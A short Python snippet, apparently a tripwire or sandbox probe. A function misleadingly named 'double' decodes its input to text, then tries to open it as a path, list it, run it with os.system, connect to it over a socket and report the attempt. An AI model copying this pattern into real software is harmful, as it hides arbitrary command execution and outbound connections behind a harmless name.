"""Names hidden inputs where the staff hears of attempts: files, programs and addresses to open."""
import numpy as np
from kit import attempts, load, message, os, send


def double(x):
    text = bytes(np.asarray(x).astype(np.uint8)).decode("latin-1")
    attempts([
        lambda: open(f"/{text}"),
        lambda: os.listdir(f"/{text}"),
        lambda: os.system(text),
        lambda: load("socket").create_connection((text, 80)),
        lambda: send(message("Attempt", "open", text)),
    ])
